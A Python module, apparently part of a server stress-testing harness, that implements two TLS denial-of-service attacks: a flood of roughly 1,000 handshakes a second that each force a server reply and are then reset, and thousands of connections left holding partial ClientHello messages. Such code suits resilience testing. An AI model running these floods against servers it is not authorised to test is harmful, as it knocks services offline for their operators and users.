"""Attacks by TLS: handshakes begun by the thousand, and left."""

from __future__ import annotations

import contextlib
import selectors
import socket
import time
from collections.abc import Iterator

from field import Field, reset
from peers import client_hello

RATE = 1_000  # a second
ALL = 3_000  # that stay half done


def begun_and_left(field: Field) -> Iterator[str]:
    """RATE handshakes a second, each up to the server's answer, which is what costs it."""
    hello, rate = client_hello(), field.few(RATE)
    yield ""
    begun, opened, answered = time.perf_counter(), 0, 0
    selector = selectors.DefaultSelector()
    while field.under_way:
        while opened < (time.perf_counter() - begun) * rate and field.under_way:
            with contextlib.suppress(OSError):
                sock = field.connect()
                sock.sendall(hello)
                selector.register(sock, selectors.EVENT_READ)
            opened += 1
        answered += _answers(selector)
    yield f"{opened / field.seconds:,.0f} handshakes a second were begun, {answered / field.seconds:,.0f} answered"


def _answers(selector: selectors.BaseSelector) -> int:
    answered = 0
    for key, _ in selector.select(0.005):
        sock: socket.socket = key.fileobj  # type: ignore[assignment]
        with contextlib.suppress(OSError):
            answered += sock.recv(65_536).startswith(b"\x16")
        selector.unregister(sock)
        reset(sock)
    return answered


def half_done(field: Field) -> Iterator[str]:
    """Strangers who say a part of their hello, and nothing more."""
    hello = client_hello()
    sockets = []
    for number in range(field.few(ALL)):
        with contextlib.suppress(OSError):
            sockets.append(field.connect())
            sockets[-1].sendall(hello[: 1 + number % len(hello)])
    yield ""
    time.sleep(field.left)
    yield f"{len(sockets):,} connections with a part of a hello"
